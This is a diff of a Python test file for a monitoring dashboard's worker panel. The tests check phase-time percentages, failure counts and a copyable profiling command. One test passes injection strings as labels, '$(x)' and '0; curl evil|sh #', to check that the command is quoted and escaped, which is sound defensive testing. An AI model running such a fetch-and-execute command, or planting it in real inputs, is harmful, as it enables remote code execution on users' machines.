@@ -1,40 +1,32 @@
 """The panel of one worker, drawn from numbers."""
 
-from raymon.live.snapshot import snapshot_of
-from raymon.page.choice import Choice
-from raymon.page.context import context_of
-from raymon.page.detail import detail
-from raymon.views import RunView, WorkerView
+from page_views import page_html, run_view, snapshot, worker_view
 
 
-def drawn(**worker):
-    told = {
-        "activity": "environment",
-        "heartbeat_age_seconds": 0.5,
-        "lifecycle": "up",
-        "seen_seconds": 100.0,
-        "latency_seconds": {"p99": 0.1},
-        "phase_ratio": {"environment": 0.25},
-        **worker,
-    }
-    view = RunView(
-        "r",
-        state="training",
-        data_age_seconds=0.5,
-        report_seconds=1.0,
-        exporter_age_seconds=0.5,
-        workers=(WorkerView("0", **told),),
-    )
-    return str(detail(context_of(snapshot_of([view]), Choice(worker="0"))))
+def panel(worker):
+    """The panel of the worker, as HTML."""
+    html = page_html(snapshot(run_view(worker, run="r $(x)")), worker=worker.worker)
+    return html.partition('data-section="detail"')[2].partition("</section>")[0]
 
 
-def test_a_stalled_worker_spends_time_in_its_hanging_phase():
-    stalled = drawn(stuck_seconds=60.0, progress_age_seconds=60.0)
-    assert "environment<b>100 %</b>" in stalled
-    assert "other" not in stalled.partition("Its time by phase")[2]
+def test_rest_of_a_stalled_workers_time_belongs_to_its_present_phase():
+    phases = panel(worker_view(stuck_seconds=60.0, progress_age_seconds=60.0)).partition("Its time by phase")[2]
+    assert "environment<b>100 %</b>" in phases
+    assert "other" not in phases
 
 
-def test_unnamed_time_of_a_running_worker_is_other():
-    running = drawn(stuck_seconds=0.5, progress_age_seconds=0.5)
-    assert "environment<b>25 %</b>" in running
-    assert "other<b>75 %</b>" in running
+def test_rest_of_a_running_workers_time_is_other():
+    phases = panel(worker_view()).partition("Its time by phase")[2]
+    assert "environment<b>25 %</b>" in phases
+    assert "other<b>75 %</b>" in phases
+
+
+def test_command_to_copy_quotes_what_came_from_labels():
+    html = panel(worker_view("0; curl evil|sh #", pid=7))
+    assert "raymon profile --run &#x27;r $(x)&#x27; --worker &#x27;0; curl evil|sh #&#x27;" in html
+
+
+def test_failed_rollouts_are_listed_by_class():
+    html = panel(worker_view(failures={"TypeError": 23.0}, failures_total=230.0, rollouts_total=7.0))
+    assert "<code>TypeError</code> 23/s" in html
+    assert "230 rollouts failed since its process started, 7 succeeded." in html
